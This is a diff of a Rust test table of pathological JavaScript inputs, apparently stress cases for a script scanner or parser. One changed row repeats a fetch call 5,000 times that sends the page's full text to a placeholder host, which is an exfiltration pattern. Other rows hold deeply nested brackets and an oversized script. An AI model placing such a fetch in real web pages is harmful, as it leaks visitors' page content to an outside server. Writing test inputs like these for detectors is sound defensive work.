@@ -134,7 +134,18 @@ fn rows() -> Vec<(&'static str, Files)> {
                     .collect::<String>(),
             ),
         ),
-        ("5,000 fetches of titles in front", behind(&"fetch('https://a.invalid/?' + document.title);".repeat(5_000))),
+        (
+            "5,000 fetches of the page's text in front",
+            behind(&"fetch('https://a.invalid/?' + document.body.innerText);".repeat(5_000)),
+        ),
+        (
+            "a thousand elements filled with one long script in front",
+            behind(&format!(
+                "const s = document.createElement('script'); const t = `{}`; {}",
+                "f(1);\n".repeat(150_000),
+                "s.textContent = t;\n".repeat(1_000)
+            )),
+        ),
         ("20,000 branches in front", behind(&"if (a) { b = c; } else { b = d; }\n".repeat(20_000))),
         ("900 levels of brackets in front", behind(&format!("var a = {}1{};", "(".repeat(900), ")".repeat(900)))),
         ("5,000 levels of brackets in front", behind(&format!("var a = {}1{};", "(".repeat(5_000), ")".repeat(5_000)))),
